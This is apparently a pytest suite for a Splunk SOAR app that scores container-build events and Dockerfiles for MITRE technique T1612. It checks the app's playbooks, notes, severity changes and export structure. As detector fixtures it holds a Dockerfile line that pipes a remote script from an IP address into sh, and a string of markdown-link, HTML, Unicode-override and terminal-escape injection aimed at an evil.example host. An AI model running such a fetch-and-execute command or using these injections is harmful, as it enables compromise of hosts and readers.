"""The playbooks run, against the app itself, and each joint of theirs is there in its manifest."""

from __future__ import annotations

import ast
import json
import re
import runpy
import subprocess
import sys
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from types import ModuleType
from typing import Any

import pytest

from .conftest import Run
from .events import BUILD, DEPLOY, EGRESS, QUIET, Stored

ROOT = Path(__file__).resolve().parents[1]
NAMES = ["T1612_Score_Events", "T1612_Triage_Container"]
HOSTILE = "[click](https://evil.example)<img src=x>`x`\n# www.evil.example\u202e\x1b[31m"


def exported(name: str) -> dict[str, Any]:
    loaded: dict[str, Any] = json.loads((ROOT / "playbooks" / f"{name}.json").read_text("utf-8"))
    return loaded


def manifest() -> dict[str, dict[str, Any]]:
    from splunk_soar.src.app import app

    metas = [meta.model_dump() for meta in app.actions_manager.get_actions_meta_list()]
    return {meta["action"]: meta for meta in metas}


@dataclass
class Phantom:
    """Stands in for the platform's playbook API: actions are run by the app itself.

    Refuses a datapath that the action's manifest does not name.
    """

    app: Any
    container: dict[str, Any]
    inputs: dict[str, list[Any]]
    files: list[dict[str, Any]]
    actions: dict[str, str] = field(default_factory=dict)
    results: dict[str, list[Any]] = field(default_factory=dict)
    data: dict[str, str] = field(default_factory=dict)
    notes: list[tuple[str, str]] = field(default_factory=list)
    severity: str = ""
    output: dict[str, Any] = field(default_factory=dict)

    def playbook_block(self) -> Callable[[Any], Any]:
        return lambda function: function

    def debug(self, _: str) -> None:
        pass

    def act(
        self,
        action: str,
        *,
        parameters: list[dict[str, Any]],
        name: str,
        assets: list[str],
        callback: Callable[..., None],
    ) -> None:
        assert assets == ["t1612"]
        meta = manifest()[action]
        self.actions[name] = action
        self.results[name] = []
        for given in parameters:
            assert set(given) <= set(meta["parameters"])
            self.app.actions_manager.get_action_results().clear()
            self.app.__dict__.pop("_asset", None)
            document = {
                "action": action,
                "identifier": meta["identifier"],
                "asset_id": "1",
                "container_id": self.container["id"],
                "config": {"app_version": "0", "directory": ".", "main_module": "src.app:app"},
                "parameters": [given],
            }
            self.app.handle(json.dumps(document))
            (result,) = self.app.actions_manager.get_action_results()
            self.results[name].append((given, result))
        callback(container=self.container, success=True)

    def completed(self, *, action_names: list[str]) -> bool:
        return all(name in self.results for name in action_names)

    def collect2(self, *, container: Any, datapath: list[str]) -> list[list[Any]]:
        columns = [list(self._values(path)) for path in datapath]
        return [list(row) for row in zip(*columns, strict=True)]

    def decision(
        self, *, container: Any, logical_operator: str, conditions: list[Any], delimiter: None
    ) -> bool:
        def holds(path: str, op: str, value: Any) -> bool:
            test = {"==": lambda a: a == value, ">": lambda a: a is not None and a > value}[op]
            return any(test(each) for each in self._values(path))

        found = [holds(*each) for each in conditions]
        return any(found) if logical_operator == "or" else all(found)

    def _values(self, path: str) -> Iterator[Any]:
        block, _, rest = path.partition(":")
        if block == "playbook_input":
            yield from self.inputs[rest]
        elif rest.startswith("custom_function:"):
            yield json.loads(self.data[f"{block}:{rest.partition(':')[2]}"])
        else:
            outputs = {each["data_path"] for each in manifest()[self.actions[block]]["output"]}
            assert rest in outputs, path
            for given, result in self.results[block]:
                held: Any = {
                    "status": "success" if result.get_status() else "failed",
                    "message": result.get_message(),
                    "summary": result.get_summary(),
                    "parameter": given,
                }
                for key in rest.split(".")[1:]:
                    held = (held or {}).get(key)
                yield held

    def save_run_data(self, *, key: str, value: str) -> None:
        self.data[key] = value

    def get_run_data(self, *, key: str) -> str:
        return self.data.get(key, "")

    def vault_info(self, *, container_id: int) -> tuple[bool, str, list[dict[str, Any]]]:
        return bool(self.files), "no file is there", self.files

    def set_severity(self, *, container: Any, severity: str) -> None:
        self.severity = severity

    def add_note(
        self, *, container: Any, content: str, note_format: str, note_type: str, title: str
    ) -> None:
        assert note_format == "markdown"
        self.notes.append((title, content))

    def save_playbook_output_data(self, *, output: dict[str, Any]) -> None:
        self.output = output


@pytest.fixture
def play(app: Any, run: Run, monkeypatch: pytest.MonkeyPatch) -> Callable[..., Phantom]:
    """Run a playbook over events, which are a container's artifacts or its input."""

    def go(
        name: str,
        events: list[Any],
        files: dict[str, str] | None = None,
        severity: str = "low",
    ) -> Phantom:
        records = [{"id": at, "cef": event} for at, event in enumerate(events, 1)]
        monkeypatch.setattr(
            type(app.soar_client),
            "get",
            lambda *_, **__: type("A", (), {"json": lambda _: {"num_pages": 1, "data": records}})(),
        )
        phantom = Phantom(
            app,
            {"id": 7, "severity": severity},
            {"events": events},
            [{"name": each, "vault_id": id} for each, id in (files or {}).items()],
        )
        package, rules = ModuleType("phantom"), ModuleType("phantom.rules")
        for each in dir(phantom):
            if not each.startswith("_"):
                setattr(rules, each, getattr(phantom, each))
        package.__dict__["rules"] = rules
        monkeypatch.setitem(sys.modules, "phantom", package)
        monkeypatch.setitem(sys.modules, "phantom.rules", rules)
        blocks = runpy.run_path(str(ROOT / "playbooks" / f"{name}.py"))
        blocks["on_start"](phantom.container)
        blocks["on_finish"](phantom.container, {})
        return phantom

    return go


BY_NAME = pytest.mark.parametrize("name", NAMES)
Play = Callable[..., Phantom]


@BY_NAME
def test_what_is_malicious_raises_the_severity_and_is_noted(play: Play, name: str) -> None:
    phantom = play(name, [BUILD, EGRESS, DEPLOY])

    assert phantom.severity == "high"
    ((title, note),) = phantom.notes
    assert title == "T1612"
    assert "verdict\\: malicious" in note
    assert "host\\: web\\-prod\\-07" in note


@BY_NAME
def test_a_severity_is_never_lowered_nor_a_word_of_your_own_replaced(play: Play, name: str) -> None:
    for severity in ("high", "High", "urgent"):
        assert play(name, [BUILD, EGRESS, DEPLOY], severity=severity).severity == ""


@BY_NAME
def test_what_is_suspicious_is_noted(play: Play, name: str) -> None:
    phantom = play(name, [BUILD, QUIET])

    assert phantom.severity == ""
    assert "verdict\\: suspicious, highest score\\: 4" in phantom.notes[0][1]


@BY_NAME
def test_where_nothing_is_found_nothing_is_done(play: Play, name: str) -> None:
    assert play(name, [QUIET]).notes == []


@BY_NAME
@pytest.mark.parametrize(
    ("events", "said"),
    [
        ([{"a": 1}], "none of 1 events can be scored"),
        ([], "there were no events"),
    ],
)
def test_what_is_not_understood_is_noted(
    play: Play, name: str, events: list[Any], said: str
) -> None:
    ((_, note),) = play(name, events).notes

    assert said in note.replace("\\", "")
    assert "verdict\\: unknown" in note


@BY_NAME
def test_dockerfiles_of_the_container_are_scored(play: Play, name: str, stored: Stored) -> None:
    bad = stored(b"FROM alpine\nRUN curl -s http://203.0.113.7/i.sh | sh\n")
    good = stored(b"FROM alpine\nCOPY . .\n")
    broken = stored(b"FROM \xff\xfe\n")
    files = {"Dockerfile": bad, "web.dockerfile": good, "Dockerfile.old": broken, "x.txt": "0"}
    phantom = play(name, [QUIET], files)

    ((title, note),) = phantom.notes
    assert title == "T1612: Dockerfiles"
    assert (bad in note, good in note, broken in note) == (True, False, True)
    assert "it is no text in UTF\\-8" in note
    assert len(phantom.results["score_dockerfile"]) == 3
    assert play(name, [QUIET], {"Dockerfile": good}).notes == []


@BY_NAME
def test_a_note_holds_nothing_that_acts(play: Play, name: str) -> None:
    note = play(name, [{**BUILD, "DeviceName": HOSTILE}]).notes[0][1]

    assert "\\[click\\]" in note
    assert "\\\\u202e\\\\x1b\\[31m" in note
    assert note.replace("\n", "").isprintable()
    for each in (r"(?<!\\)[\[\]<>`#]", r"https?:", r"www\.", r"\n(?!\* )"):
        assert not re.search(each, note)


def test_the_input_playbook_gives_what_it_promises(play: Play) -> None:
    phantom = play("T1612_Score_Events", [BUILD, None, [EGRESS, DEPLOY]])
    promised = exported("T1612_Score_Events")["coa"]["output_spec"]

    assert list(phantom.output) == [each["name"] for each in promised]
    assert phantom.output["verdict"] == ["malicious"]
    assert phantom.output["top_device"] == ["web-prod-07"]


# --- The files themselves ---


@BY_NAME
def test_each_joint_is_in_the_manifest(name: str) -> None:
    from splunk_soar.src.app import app

    data = exported(name)["coa"]["data"]
    nodes = data["nodes"]
    actions = {
        node["data"]["functionName"]: node["data"]
        for node in nodes.values()
        if node["type"] == "action"
    }
    assert {each["action"] for each in actions.values()} >= {"score dockerfile"}
    for each in actions.values():
        meta = manifest()[each["action"]]
        assert each["connectorId"] == str(app.app_meta_info["appid"])
        assert each["actionType"] == meta["type"]
        assert set(each["parameters"]) <= set(meta["parameters"])
    paths = set(re.findall(r"(\w+):(action_result\.[\w.]+)", json.dumps(exported(name))))
    assert paths
    for block, path in paths:
        outputs = {each["data_path"] for each in manifest()[actions[block]["action"]]["output"]}
        assert path in outputs


@BY_NAME
def test_it_has_the_structure_of_an_export(name: str) -> None:
    """As the vendor's public playbooks have it."""
    loaded = exported(name)
    assert set(loaded) == {
        *("blockly", "blockly_xml", "category", "coa", "create_time", "draft_mode", "labels"),
        "tags",
    }
    coa = loaded["coa"]
    assert set(coa) == {
        *("data", "input_spec", "output_spec", "playbook_type", "python_version", "schema"),
        "version",
    }
    assert (coa["input_spec"] is None) == (coa["playbook_type"] == "automation")
    nodes, edges = coa["data"]["nodes"], coa["data"]["edges"]
    assert nodes["0"]["type"] == "start"
    assert nodes["1"]["type"] == "end"
    names = [node["data"]["functionName"] for node in nodes.values()]
    assert len(set(names)) == len(names)
    for id, node in nodes.items():
        assert node["id"] == node["data"]["id"] == id
        assert node["data"]["type"] == node["type"]
        assert {"x", "y", "errors"} <= set(node)
    places = [(node["x"], node["y"]) for node in nodes.values()]
    assert len(set(places)) == len(places)
    for edge in edges:
        source, target = edge["sourceNode"], edge["targetNode"]
        assert edge["id"] == f"port_{source}_to_port_{target}"
        assert (edge["sourcePort"], edge["targetPort"]) == (f"{source}_out", f"{target}_in")
        assert {source, target} <= set(nodes)
        is_decision = nodes[source]["type"] == "decision"
        assert ("conditions" in edge) == is_decision
    reached = {"0"}
    for _ in nodes:
        reached |= {edge["targetNode"] for edge in edges if edge["sourceNode"] in reached}
    assert reached == set(nodes)


@BY_NAME
def test_what_runs_and_what_is_shown_are_one(name: str) -> None:
    source = (ROOT / "playbooks" / f"{name}.py").read_text("utf-8")
    data = exported(name)["coa"]["data"]
    functions = {each.name for each in ast.parse(source).body if isinstance(each, ast.FunctionDef)}
    shown = {node["data"]["functionName"] for node in data["nodes"].values()}

    assert {each for each in functions if not each.startswith("join_")} == shown
    assert data["description"] in source
    for node in data["nodes"].values():
        assert node.get("userCode", "").strip() in source
        for path in re.findall(r'"(?:param|datapath)": "([^"]+)"', json.dumps(node)):
            assert path in source


def test_the_files_are_what_the_tool_makes() -> None:
    done = subprocess.run(
        [sys.executable, str(ROOT / "tools" / "playbooks.py"), "--check"],
        capture_output=True,
        text=True,
    )
    assert done.returncode == 0, done.stderr
